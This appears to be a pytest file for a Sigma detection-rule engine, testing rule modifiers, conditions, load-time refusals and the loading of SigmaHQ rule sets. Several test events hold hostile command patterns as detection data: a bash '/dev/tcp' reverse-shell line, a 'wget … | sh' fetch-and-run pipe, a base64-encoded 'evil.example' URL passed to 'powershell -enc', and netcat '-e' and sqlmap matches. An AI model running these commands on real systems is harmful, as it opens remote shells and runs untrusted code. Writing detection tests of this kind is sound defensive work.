"""Sigma detection rules: every modifier and condition form the SigmaHQ linux and web rules use (and the rest pySigma
offers), each on a small hand-made rule; what the engine cannot evaluate is refused at load with the reason."""

from __future__ import annotations

import base64
import collections
from pathlib import Path

import pytest
import yaml

from bookwarden.monitor.sigma.load import builtin_paths, load
from tests.monitor.helpers import SIGMAHQ, detection, event, matches, rules


def test_a_plain_value_is_the_whole_value_case_insensitive(tmp_path):
    rule = detection(tmp_path, "selection:\n  CommandLine: 'Whoami'\ncondition: selection")
    assert matches(rule, event(CommandLine="whoami"))
    assert not matches(rule, event(CommandLine="whoami /all"))
    assert not matches(rule, event())  # absent field


def test_wildcards_in_a_value(tmp_path):
    rule = detection(tmp_path, "selection:\n  Image: '/usr/*/ba?h'\ncondition: selection")
    assert matches(rule, event(Image="/usr/local/bin/bash"))
    assert not matches(rule, event(Image="/usr/bin/bassh"))
    escaped = detection(tmp_path, "selection:\n  Image: 'a\\*b'\ncondition: selection", name="escaped")
    assert matches(escaped, event(Image="a*b")) and not matches(escaped, event(Image="axb"))


@pytest.mark.parametrize(
    ("modifier", "hit", "miss"),
    [
        ("contains", "x /TMP/evil y", "x /tm/p y"),
        ("startswith", "/tmp/evil", "x/tmp/"),
        ("endswith", "run /tmp", "/tmp/x"),
    ],
)
def test_contains_startswith_endswith(tmp_path, modifier, hit, miss):
    rule = detection(tmp_path, f"selection:\n  CommandLine|{modifier}: '/tmp'\ncondition: selection")
    assert matches(rule, event(CommandLine=hit))
    assert not matches(rule, event(CommandLine=miss))


def test_a_list_is_any_of_and_all_makes_it_every_one(tmp_path):
    any_of = detection(tmp_path, "selection:\n  CommandLine|contains:\n    - wget\n    - curl\ncondition: selection")
    assert matches(any_of, event(CommandLine="curl x")) and not matches(any_of, event(CommandLine="ftp"))
    every = detection(
        tmp_path, "selection:\n  CommandLine|contains|all:\n    - wget\n    - '| sh'\ncondition: selection", "all"
    )
    assert matches(every, event(CommandLine="wget http://x | sh"))
    assert not matches(every, event(CommandLine="wget http://x"))


def test_keywords_search_the_message_and_all_on_keywords(tmp_path):
    words = detection(tmp_path, "keywords:\n  - 'Corrupted MAC on input'\n  - 'bad string'\ncondition: keywords")
    assert matches(words, event(message="fatal: Corrupted MAC on input. [preauth]"))
    assert not matches(words, event(message="Connection closed"))
    both = detection(tmp_path, "keywords:\n  '|all':\n    - 'bash -c'\n    - '/dev/tcp/'\ncondition: keywords", "kw")
    assert matches(both, event(message="x bash -c 'exec 3<>/dev/tcp/1.2.3.4/80'"))
    assert not matches(both, event(message="bash -c true"))


def test_regular_expressions_search_with_their_flags(tmp_path):
    rule = detection(tmp_path, "selection:\n  CommandLine|re: '\\s-O\\s'\ncondition: selection")
    assert matches(rule, event(CommandLine="wget -O /tmp/x")) and not matches(rule, event(CommandLine="wget -o x"))
    folded = detection(tmp_path, "selection:\n  CommandLine|re|i: '^WGET'\ncondition: selection", "folded")
    assert matches(folded, event(CommandLine="wget x"))
    lines = detection(tmp_path, "selection:\n  CommandLine|re|m: '^second$'\ncondition: selection", "lines")
    assert matches(lines, event(CommandLine="first\nsecond\nthird"))
    dotall = detection(tmp_path, "selection:\n  CommandLine|re|s: 'a.b'\ncondition: selection", "dotall")
    assert matches(dotall, event(CommandLine="a\nb"))


def test_cidr(tmp_path):
    rule = detection(
        tmp_path, "selection:\n  DestinationIp|cidr:\n    - 10.0.0.0/8\n    - 'fd00::/8'\ncondition: selection"
    )
    assert matches(rule, event(DestinationIp="10.1.2.3")) and matches(rule, event(DestinationIp="fd00::1"))
    assert not matches(rule, event(DestinationIp="11.0.0.1"))
    assert not matches(rule, event(DestinationIp="host.example"))  # a name is no address: no match, no error


def test_base64_and_base64offset(tmp_path):
    plain = detection(tmp_path, "selection:\n  CommandLine|base64: 'secret'\ncondition: selection")
    assert matches(plain, event(CommandLine=base64.b64encode(b"secret").decode()))
    offset = detection(
        tmp_path, "selection:\n  CommandLine|base64offset|contains: 'http://'\ncondition: selection", "offset"
    )
    for prefix in (b"", b"x", b"xy"):  # the value at each of the three offsets in a base64 stream
        encoded = base64.b64encode(prefix + b"http://evil.example").decode()
        assert matches(offset, event(CommandLine=f"powershell -enc {encoded}")), prefix
    assert not matches(offset, event(CommandLine=base64.b64encode(b"ftp://x").decode()))


def test_windash(tmp_path):
    rule = detection(tmp_path, "selection:\n  CommandLine|windash|contains: ' -enc '\ncondition: selection")
    assert matches(rule, event(CommandLine="ps /enc abc")) and matches(rule, event(CommandLine="ps -enc abc"))
    assert not matches(rule, event(CommandLine="ps enc abc"))


def test_cased(tmp_path):
    rule = detection(tmp_path, "selection:\n  CommandLine|cased: 'Invoke'\ncondition: selection")
    assert matches(rule, event(CommandLine="Invoke")) and not matches(rule, event(CommandLine="invoke"))


def test_numbers_comparisons_booleans_and_null(tmp_path):
    status = detection(tmp_path, "selection:\n  status: 404\ncondition: selection")
    assert matches(status, event(status=404)) and matches(status, event(status="404"))
    assert not matches(status, event(status=200))
    for modifier, hit, miss in (("lt", 3, 5), ("lte", 5, 6), ("gt", 6, 5), ("gte", 5, 4)):
        rule = detection(tmp_path, f"selection:\n  size|{modifier}: 5\ncondition: selection", f"c{modifier}")
        assert matches(rule, event(size=hit)) and not matches(rule, event(size=miss)), modifier
        assert not matches(rule, event(size="many")) and not matches(rule, event())
    flag = detection(tmp_path, "selection:\n  Initiated: 'true'\ncondition: selection", "flag")
    assert matches(flag, event(Initiated=True)) and matches(flag, event(Initiated="true"))
    boolean = detection(tmp_path, "selection:\n  Initiated: true\ncondition: selection", "boolean")
    assert matches(boolean, event(Initiated=True)) and not matches(boolean, event(Initiated=False))
    null = detection(tmp_path, "selection:\n  referer: null\ncondition: selection", "null")
    assert matches(null, event()) and matches(null, event(referer="")) and not matches(null, event(referer="x"))
    empty = detection(tmp_path, "selection:\n  agent: ''\ncondition: selection", "empty")
    assert matches(empty, event(agent="")) and not matches(empty, event())


def test_exists_fieldref_and_timestamp_parts(tmp_path):
    exists = detection(tmp_path, "selection:\n  grant_id|exists: true\ncondition: selection")
    assert matches(exists, event(grant_id="g")) and not matches(exists, event())
    missing = detection(tmp_path, "selection:\n  grant_id|exists: false\ncondition: selection", "missing")
    assert matches(missing, event()) and not matches(missing, event(grant_id="g"))
    same = detection(tmp_path, "selection:\n  target_id|fieldref: actor_id\ncondition: selection", "same")
    assert matches(same, event(target_id="a1", actor_id="A1"))
    assert not matches(same, event(target_id="a1", actor_id="a2")) and not matches(same, event(target_id="a1"))
    hour = detection(tmp_path, "selection:\n  time|hour: 12\ncondition: selection", "hour")  # T0 is 12:00 UTC
    assert matches(hour, event(0)) and not matches(hour, event(3600))
    early = detection(tmp_path, "selection:\n  time|hour|lt: 13\ncondition: selection", "early")
    assert matches(early, event(0)) and not matches(early, event(3600))
    month = detection(tmp_path, "selection:\n  time|month: 3\ncondition: selection", "month")
    assert matches(month, event(0))


def test_condition_forms(tmp_path):
    body = """
    selection_a:
      a: 1
    selection_b:
      b: 1
    filter:
      c: 1
    condition: {}
    """
    cases = {
        "selection_a and selection_b": [({"a": 1, "b": 1}, True), ({"a": 1}, False)],
        "selection_a or selection_b": [({"b": 1}, True), ({"c": 1}, False)],
        "selection_a and not filter": [({"a": 1}, True), ({"a": 1, "c": 1}, False)],
        "1 of selection_*": [({"b": 1}, True), ({"c": 1}, False)],
        "all of selection_*": [({"a": 1, "b": 1}, True), ({"a": 1}, False)],
        "1 of them": [({"c": 1}, True), ({}, False)],
        "all of them": [({"a": 1, "b": 1, "c": 1}, True), ({"a": 1, "b": 1}, False)],
        "(selection_a or selection_b) and not filter": [({"b": 1}, True), ({"b": 1, "c": 1}, False)],
        "not 1 of selection_*": [({"c": 1}, True), ({"a": 1}, False)],
    }
    for number, (condition, expectations) in enumerate(cases.items()):
        rule = detection(tmp_path, body.format(condition), name=f"form{number}")
        for values, expected in expectations:
            assert matches(rule, event(**values)) is expected, (condition, values)


def test_a_selection_holding_a_list_of_maps_is_any_of_them(tmp_path):
    rule = detection(
        tmp_path, "selection:\n  - Image|endswith: /nc\n  - CommandLine|contains: ' -e '\ncondition: selection"
    )
    assert matches(rule, event(Image="/bin/nc")) and matches(rule, event(CommandLine="x -e y"))
    assert not matches(rule, event(Image="/bin/ncat"))


def test_sigma_field_names_map_onto_ours(tmp_path):
    rule = detection(tmp_path, "selection:\n  cs-method: POST\n  c-useragent|contains: sqlmap\ncondition: selection")
    assert matches(rule, event(method="POST", user_agent="sqlmap/1.7"))
    assert not matches(rule, event(method="GET", user_agent="sqlmap/1.7"))


def test_unsupported_features_are_refused_at_load_with_the_reason(tmp_path):
    documents = {
        "wide": "selection:\n  CommandLine|wide|base64offset|contains: ping\ncondition: selection",
        "expand": "selection:\n  CommandLine|expand: '%admins%'\ncondition: selection",
        "pipe": "selection:\n  a: 1\ncondition: selection | count() by b > 5",
        "unknown_modifier": "selection:\n  a|sounds_like: 1\ncondition: selection",
        "undefined_selection": "selection:\n  a: 1\ncondition: selection and other",
    }
    text = "\n---\n".join(
        f"title: {name}\nname: {name}\nlogsource:\n  product: test\ndetection:\n"
        + "\n".join("  " + line for line in body.splitlines())
        for name, body in documents.items()
    )
    text += """
---
title: filter document
filter:
  rules: [x]
  selection:
    a: 1
  condition: not selection
---
title: lt
name: fewer_than
correlation:
  type: event_count
  rules: [base]
  group-by: [user]
  timespan: 1m
  condition:
    lt: 3
---
title: percentile
name: percentile
correlation:
  type: value_percentile
  rules: [base]
  group-by: [user]
  timespan: 1m
  condition:
    gte: 3
    field: size
    percentile: 90
---
title: nested
name: nested
correlation:
  type: event_count
  rules: [percentile_ok]
  group-by: [user]
  timespan: 1m
  condition:
    gte: 3
---
title: ok
name: percentile_ok
correlation:
  type: event_count
  rules: [base]
  group-by: [user]
  timespan: 1m
  condition:
    gte: 2
---
title: missing
name: missing
correlation:
  type: event_count
  rules: [nowhere]
  group-by: [user]
  timespan: 1m
  condition:
    gte: 2
---
title: base
name: base
logsource:
  product: test
detection:
  selection:
    a: 1
  condition: selection
"""
    ruleset = rules(tmp_path, text)
    refused = {r.key or r.title: r.reason for r in ruleset.refused}
    assert "binary" in refused["wide"]
    assert "placeholder" in refused["expand"]
    assert "pipe" in refused["pipe"]
    assert "sounds_like" in refused["unknown_modifier"]
    assert "other" in refused["undefined_selection"]
    assert "filters are not applied" in refused["filter document"]
    assert "bound from above" in refused["fewer_than"]
    assert "value_percentile" in refused["percentile"]
    assert "correlations of correlations" in refused["nested"]
    assert "'nowhere'" in refused["missing"] and "not loaded" in refused["missing"]
    assert [d.key for d in ruleset.detections] == ["base"] and [c.key for c in ruleset.correlations] == [
        "percentile_ok"
    ]
    assert all(reason for reason in refused.values())


def test_a_file_that_is_not_yaml_is_refused_not_skipped(tmp_path):
    (tmp_path / "broken.yml").write_text("title: [unclosed\n")
    ruleset = load([tmp_path])
    (refused,) = ruleset.refused
    assert refused.path.name == "broken.yml" and "YAML" in refused.reason


def _modifiers_in(folder: Path) -> collections.Counter:
    """The modifiers the rules use, read straight from the YAML (not through pySigma)."""
    used: collections.Counter = collections.Counter()

    def walk(node):
        if isinstance(node, dict):
            for key, value in node.items():
                if isinstance(key, str) and "|" in key:
                    used.update(key.split("|")[1:])
                walk(value)
        elif isinstance(node, list):
            for item in node:
                walk(item)

    for path in folder.rglob("*.yml"):
        for document in yaml.safe_load_all(path.read_text()):
            walk((document or {}).get("detection", {}))
    return used


def test_every_sigmahq_rule_loads_as_documented():
    """docs/monitoring.md: all 255 SigmaHQ linux and web rules load (none refused); 37 of them have a log source we
    parse today (syslog programs, sshd, apache, web server access logs); the others (process creation, auditd, file
    events, network connections, proxies, nginx) wait for their collectors."""
    assert set(_modifiers_in(SIGMAHQ)) == {"contains", "endswith", "all", "startswith", "re", "cidr"}
    ruleset = load([SIGMAHQ])
    assert len(ruleset.detections) == 255 and ruleset.refused == [] and ruleset.correlations == []
    fed = collections.Counter((d.product, d.category, d.service) for d in ruleset.detections if d.fed)
    assert sum(fed.values()) == 37
    assert fed[(None, "webserver", None)] == 13 and fed[("linux", None, None)] == 15
    unfed = collections.Counter(d.category or d.service for d in ruleset.detections if not d.fed)
    assert unfed == {
        "process_creation": 122,
        "auditd": 53,
        "proxy": 29,
        "file_event": 8,
        "network_connection": 5,
        "nginx": 1,
    }


def test_the_builtin_pack_loads_whole():
    ruleset = load(builtin_paths())
    assert ruleset.refused == []
    assert len(ruleset.detections) + len(ruleset.correlations) >= 25
    keys = {rule.key for rule in ruleset.detections + ruleset.correlations}
    assert {"sshd_brute_force", "platform_credential_stuffing", "web_sql_injection", "host_fim_change"} <= keys
    # A rule only a correlation counts raises nothing by itself.
    quiet = {d.key for d in ruleset.detections if not d.output}
    assert {"sshd_failed_attempt", "platform_sign_in_failed"} <= quiet and "sshd_root_login" not in quiet
